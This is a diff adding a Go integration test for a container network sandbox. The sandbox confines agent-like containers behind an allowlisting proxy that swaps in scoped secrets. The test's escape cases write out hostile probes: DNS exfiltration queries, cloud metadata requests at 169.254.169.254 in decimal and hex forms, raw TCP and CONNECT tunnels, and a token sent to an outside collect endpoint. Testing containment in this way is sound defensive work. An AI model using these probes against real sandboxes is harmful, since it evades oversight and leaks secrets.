@@ -1,0 +1,405 @@
+package sandbox_test
+
+// These tests start the real sandbox: podman networks, the proxy
+// container (FROM scratch + airut-proxy) and agent-like containers from
+// the local base image (scripts/base-image.sh). The upstream servers are
+// this test's own, listening inside a test container's network namespace
+// on a test egress network; no test traffic can leave the machine. They
+// need root and podman (make test-deps).
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/airut-go/airut/internal/netnstest"
+	"github.com/airut-go/airut/internal/podman"
+	"github.com/airut-go/airut/internal/sandbox"
+	"github.com/airut-go/airut/internal/testcert"
+	"github.com/airut-go/airut/proxy"
+	"github.com/airut-go/airut/proxy/masking"
+)
+
+const baseImage = "localhost/airut-base:latest"
+
+var (
+	proxyBin string
+	probeBin string
+)
+
+func TestMain(m *testing.M) {
+	os.Exit(run(m))
+}
+
+func run(m *testing.M) int {
+	_, file, _, _ := runtime.Caller(0)
+	root := filepath.Join(filepath.Dir(file), "..", "..")
+	tmp, err := os.MkdirTemp("", "airut-sandbox-test-")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	defer os.RemoveAll(tmp)
+	proxyBin = filepath.Join(tmp, "airut-proxy")
+	probeBin = filepath.Join(tmp, "probe")
+	for _, b := range [][2]string{{proxyBin, "./cmd/airut-proxy"}, {probeBin, "./internal/sandbox/testdata/probe"}} {
+		cmd := exec.Command("go", "build", "-o", b[0], b[1])
+		cmd.Dir = root
+		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			fmt.Fprintf(os.Stderr, "build %s: %v\n%s", b[1], err, out)
+			return 1
+		}
+	}
+	cmd := exec.Command(filepath.Join(root, "scripts", "base-image.sh"))
+	if out, err := cmd.CombinedOutput(); err != nil {
+		fmt.Fprintf(os.Stderr, "base image: %v\n%s", err, out)
+		return 1
+	}
+	return m.Run()
+}
+
+func connect(t *testing.T) *podman.Client {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	c, err := podman.Connect(ctx, podman.ConnectOptions{StartService: true})
+	if err != nil {
+		t.Fatalf("podman: %v", err)
+	}
+	t.Cleanup(func() { c.Close() })
+	return c
+}
+
+func randHex(n int) string {
+	b := make([]byte, n)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+// upstream is the test's server behind the proxy: it records every
+// request with the host it was for.
+type upstream struct {
+	mu   sync.Mutex
+	reqs []seen
+}
+
+type seen struct {
+	Host, Method, Path, Authorization string
+}
+
+func (u *upstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	u.mu.Lock()
+	u.reqs = append(u.reqs, seen{r.Host, r.Method, r.URL.Path, r.Header.Get("Authorization")})
+	u.mu.Unlock()
+	fmt.Fprint(w, "upstream ok")
+}
+
+func (u *upstream) seen() []seen {
+	u.mu.Lock()
+	defer u.mu.Unlock()
+	return append([]seen(nil), u.reqs...)
+}
+
+// env is one started sandbox with an upstream host.
+type env struct {
+	c         *podman.Client
+	sb        *sandbox.Sandbox
+	up        *upstream
+	upIP      string
+	logFile   string
+	surrogate string
+	real      string
+	labels    map[string]string
+}
+
+const allowlistYAML = `domains:
+  - other.test
+url_prefixes:
+  - host: api.sandbox.test
+    path: /v1/*
+    methods: [POST]
+`
+
+func start(t *testing.T, c *podman.Client, allowlist string) *env {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	id := randHex(4)
+	egress := "airut-test-egress-" + id
+	if err := c.CreateNetwork(ctx, podman.NetworkSpec{Name: egress, DNS: true}); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { c.RemoveNetwork(context.Background(), egress) })
+	host := netnstest.StartHost(t, c, egress, baseImage, "api.sandbox.test", "other.test")
+	cert, err := testcert.New("upstream", "api.sandbox.test", "other.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	up := &upstream{}
+	ln := host.Listen(t, ":443")
+	srv := &http.Server{Handler: up, TLSConfig: nil}
+	go srv.ServeTLS(ln, writeTemp(t, "cert.pem", cert.CertPEM), writeTemp(t, "key.pem", cert.KeyPEM))
+	t.Cleanup(func() { srv.Close() })
+
+	images := &sandbox.ProxyImages{}
+	tag, err := images.Ensure(ctx, c, proxyBin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	real := "sk-ant-api03-" + randHex(20)
+	e := &env{c: c, up: up, upIP: host.IP, real: real, surrogate: masking.Surrogate(real, rand.Reader),
+		logFile: filepath.Join(t.TempDir(), "network.log"), labels: map[string]string{"airut.test.run": id}}
+	sb, err := sandbox.Start(ctx, c, sandbox.Options{
+		Name: "t" + id, Labels: e.labels, ProxyImage: tag, WorkDir: filepath.Join(t.TempDir(), "sandbox"),
+		Allowlist: []byte(allowlist), CADir: filepath.Join(t.TempDir(), "ca"), LogFile: e.logFile, Egress: egress,
+		Secrets:     []proxy.Secret{{Name: "SECRET_TOKEN", Surrogate: e.surrogate, Value: real, Scopes: []string{"api.sandbox.test"}, Headers: []string{"Authorization"}}},
+		TrustBundle: cert.CertPEM,
+	})
+	if err != nil {
+		t.Fatalf("sandbox.Start: %v", err)
+	}
+	e.sb = sb
+	t.Cleanup(func() { sb.Close(context.Background()) })
+	return e
+}
+
+func writeTemp(t *testing.T, name string, data []byte) string {
+	p := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(p, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+type probeResult struct {
+	Name    string   `json:"name"`
+	Status  int      `json:"status"`
+	Body    string   `json:"body"`
+	Err     string   `json:"err"`
+	Rcode   string   `json:"rcode"`
+	Answers []string `json:"answers"`
+}
+
+// probe runs the probe binary in an agent-like container behind the
+// sandbox, with the surrogate in its environment as the agent would have.
+func (e *env) probe(t *testing.T, cases []map[string]any) map[string]probeResult {
+	t.Helper()
+	in, _ := json.Marshal(cases)
+	var out, errOut bytes.Buffer
+	spec := podman.RunSpec{
+		Name: "airut-test-agent-" + randHex(4), Image: baseImage,
+		Entrypoint: []string{"/probe"},
+		Env:        map[string]string{"SECRET_TOKEN": e.surrogate},
+		Mounts:     []podman.Mount{{Source: probeBin, Target: "/probe", ReadOnly: true}},
+		Stdin:      bytes.NewReader(in), Stdout: &out, Stderr: &errOut,
+		Labels: e.labels, CapDrop: []string{"ALL"}, NoNewPrivileges: true,
+	}
+	e.sb.Apply(&spec)
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	res, err := e.c.Run(ctx, spec)
+	if err != nil || res.ExitCode != 0 {
+		t.Fatalf("probe: exit %d, %v\n%s", res.ExitCode, err, errOut.String())
+	}
+	got := map[string]probeResult{}
+	sc := bufio.NewScanner(&out)
+	for sc.Scan() {
+		var r probeResult
+		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
+			t.Fatalf("probe output %q: %v", sc.Text(), err)
+		}
+		got[r.Name] = r
+	}
+	if len(got) != len(cases) {
+		t.Fatalf("probe answered %d of %d cases:\n%s\n%s", len(got), len(cases), out.String(), errOut.String())
+	}
+	return got
+}
+
+func (e *env) log(t *testing.T) []proxy.LogLine {
+	t.Helper()
+	data, err := os.ReadFile(e.logFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var lines []proxy.LogLine
+	for _, l := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
+		if len(l) == 0 {
+			continue
+		}
+		var ll proxy.LogLine
+		if err := json.Unmarshal(l, &ll); err != nil {
+			t.Fatalf("network log line %q: %v", l, err)
+		}
+		lines = append(lines, ll)
+	}
+	return lines
+}
+
+func httpCase(name, method, url string, extra ...func(map[string]any)) map[string]any {
+	c := map[string]any{"name": name, "kind": "http", "method": method, "url": url}
+	for _, f := range extra {
+		f(c)
+	}
+	return c
+}
+
+func withHeader(k, v string) func(map[string]any) {
+	return func(c map[string]any) { c["header"] = map[string]string{k: v} }
+}
+
+// TestEscapes runs the escape suite from inside an agent container: every
+// case must be refused, the refusals the proxy sees must be in the
+// network log, and the upstream must receive only what the allowlist
+// permits, with the real secret only on its scoped host.
+func TestEscapes(t *testing.T) {
+	c := connect(t)
+	e := start(t, c, allowlistYAML)
+	ip := e.upIP
+	cases := []map[string]any{
+		// Positive controls: the allowlisted request arrives, with the
+		// real secret swapped in on its scoped host.
+		httpCase("allowed", "POST", "https://api.sandbox.test/v1/messages", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
+		httpCase("blocked-http", "GET", "http://blocked.test/x"),
+		httpCase("blocked-https", "GET", "https://blocked.test/x"),
+		httpCase("wrong-path", "POST", "https://api.sandbox.test/admin"),
+		httpCase("wrong-method", "DELETE", "https://api.sandbox.test/v1/messages"),
+		httpCase("direct-ip-http", "GET", "http://"+ip+"/v1/messages"),
+		httpCase("direct-ip-https", "POST", "https://"+ip+"/v1/messages"),
+		{"name": "dns-txt", "kind": "dns", "qtype": "TXT", "qname": "exfil.blocked.test"},
+		{"name": "dns-aaaa", "kind": "dns", "qtype": "AAAA", "qname": "api.sandbox.test"},
+		{"name": "dns-a", "kind": "dns", "qtype": "A", "qname": "c2VjcmV0.exfil.test"},
+		{"name": "dns-outside", "kind": "dns", "qtype": "A", "qname": "other.test", "server": ip + ":53"},
+		{"name": "connect-http", "kind": "connect", "url": "http://other.test", "server": "api.sandbox.test:443"},
+		{"name": "connect-https", "kind": "connect", "url": "https://other.test", "server": ip + ":443"},
+		httpCase("host-mismatch", "POST", "https://api.sandbox.test/v1/messages", func(c map[string]any) { c["host"] = "blocked.test" }),
+		{"name": "raw-tcp-name", "kind": "tcp", "server": "api.sandbox.test:22", "payload": "SSH-2.0-probe\r\n"},
+		{"name": "raw-tcp-ip", "kind": "tcp", "server": ip + ":22"},
+		httpCase("metadata-dotted", "GET", "http://169.254.169.254/latest/meta-data/"),
+		httpCase("metadata-decimal", "GET", "http://2852039166/latest/meta-data/"),
+		httpCase("metadata-hex", "GET", "http://0xA9FEA9FE/latest/meta-data/"),
+		httpCase("surrogate-out-of-scope", "GET", "https://other.test/collect", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
+	}
+	got := e.probe(t, cases)
+
+	if r := got["allowed"]; r.Status != 200 || r.Body != "upstream ok" {
+		t.Errorf("allowed request: %+v, want 200 from upstream", r)
+	}
+	for _, name := range []string{"blocked-http", "blocked-https", "wrong-path", "wrong-method", "metadata-hex"} {
+		r := got[name]
+		if r.Status != http.StatusForbidden || !strings.Contains(r.Body, "Network sandbox blocked") || !strings.Contains(r.Body, "network-allowlist.yaml") {
+			t.Errorf("%s: %+v, want 403 explaining the block and how to request access", name, r)
+		}
+	}
+	// Direct addresses have no route: the container has no default route.
+	// (Go, like glibc, never looks up an all-digit name; curl would read
+	// it as 169.254.169.254, which has no route either.)
+	for _, name := range []string{"direct-ip-http", "direct-ip-https", "metadata-dotted", "metadata-decimal", "raw-tcp-ip", "connect-https"} {
+		if r := got[name]; r.Status == 200 || r.Err == "" && r.Status == 0 {
+			t.Errorf("%s: %+v, want no connection", name, r)
+		}
+	}
+	for _, name := range []string{"dns-txt", "dns-aaaa"} {
+		if r := got[name]; r.Rcode != "NOTIMP" || len(r.Answers) != 0 {
+			t.Errorf("%s: %+v, want NOTIMP and no answer", name, r)
+		}
+	}
+	if r := got["dns-a"]; len(r.Answers) != 1 || !strings.HasSuffix(r.Answers[0], " "+e.sb.ProxyIP) {
+		t.Errorf("dns-a: %+v, want only the proxy address %s", r, e.sb.ProxyIP)
+	}
+	if r := got["dns-outside"]; r.Err == "" {
+		t.Errorf("dns-outside: %+v, want the outside resolver unreachable", r)
+	}
+	if r := got["connect-http"]; r.Status == 200 {
+		t.Errorf("connect-http: %+v, want CONNECT refused", r)
+	}
+	if r := got["host-mismatch"]; r.Status == 200 || r.Status == 0 && r.Err == "" {
+		t.Errorf("host-mismatch: %+v, want refused", r)
+	}
+	if r := got["raw-tcp-name"]; r.Err == "" || strings.Contains(r.Err, "connected") {
+		t.Errorf("raw-tcp-name: %+v, want connection refused", r)
+	}
+	if r := got["surrogate-out-of-scope"]; r.Status != 200 {
+		t.Errorf("surrogate-out-of-scope: %+v, want the allowlisted host reached (with the surrogate)", r)
+	}
+
+	// What the upstream received: only the allowed requests, the real
+	// value only on the scoped host.
+	var hosts []string
+	for _, s := range e.up.seen() {
+		hosts = append(hosts, s.Method+" "+s.Host+s.Path)
+		switch s.Host {
+		case "api.sandbox.test":
+			if s.Authorization != "Bearer "+e.real {
+				t.Errorf("scoped host got Authorization %q, want the real value", s.Authorization)
+			}
+		case "other.test":
+			if strings.Contains(s.Authorization, e.real) {
+				t.Errorf("out-of-scope host received the real secret")
+			}
+			if s.Authorization != "" && s.Authorization != "Bearer "+e.surrogate {
+				t.Errorf("out-of-scope host got %q, want the surrogate or nothing", s.Authorization)
+			}
+		}
+	}
+	want := []string{"POST api.sandbox.test/v1/messages", "GET other.test/collect"}
+	if strings.Join(hosts, "|") != strings.Join(want, "|") {
+		t.Errorf("upstream received %q, want exactly %q", hosts, want)
+	}
+
+	// The network log: every refusal the proxy saw, the swap by name,
+	// never a secret value.
+	logData, _ := os.ReadFile(e.logFile)
+	if bytes.Contains(logData, []byte(e.real)) || bytes.Contains(logData, []byte(e.surrogate)) {
+		t.Errorf("network log holds a secret value")
+	}
+	lines := e.log(t)
+	find := func(kind, method, host, path string, allowed bool) *proxy.LogLine {
+		for i, l := range lines {
+			if l.Kind == kind && l.Method == method && l.Host == host && (path == "" || l.Path == path) && l.Allowed == allowed {
+				return &lines[i]
+			}
+		}
+		return nil
+	}
+	for _, w := range []struct {
+		kind, method, host, path string
+		allowed                  bool
+	}{
+		{"http", "GET", "blocked.test", "/x", false},
+		{"http", "POST", "api.sandbox.test", "/admin", false},
+		{"http", "DELETE", "api.sandbox.test", "/v1/messages", false},
+		{"http", "GET", "0xa9fea9fe", "/latest/meta-data/", false},
+		{"dns", "TXT", "exfil.blocked.test.", "", false},
+		{"dns", "AAAA", "api.sandbox.test.", "", false},
+		{"dns", "A", "c2VjcmV0.exfil.test.", "", true},
+		{"http", "CONNECT", "api.sandbox.test:443", "", false},
+		{"http", "POST", "blocked.test", "/v1/messages", false},
+		{"http", "GET", "other.test", "/collect", true},
+	} {
+		if find(w.kind, w.method, w.host, w.path, w.allowed) == nil {
+			t.Errorf("network log has no %s %s %s%s allowed=%v entry", w.kind, w.method, w.host, w.path, w.allowed)
+		}
+	}
+	if l := find("http", "POST", "api.sandbox.test", "/v1/messages", true); l == nil || strings.Join(l.Swapped, ",") != "SECRET_TOKEN" {
+		t.Errorf("allowed request's log entry %+v, want swapped [SECRET_TOKEN]", l)
+	}
+	if t.Failed() {
+		t.Logf("probe results: %+v", got)
+		t.Logf("network log:\n%s", logData)
+	}
+}
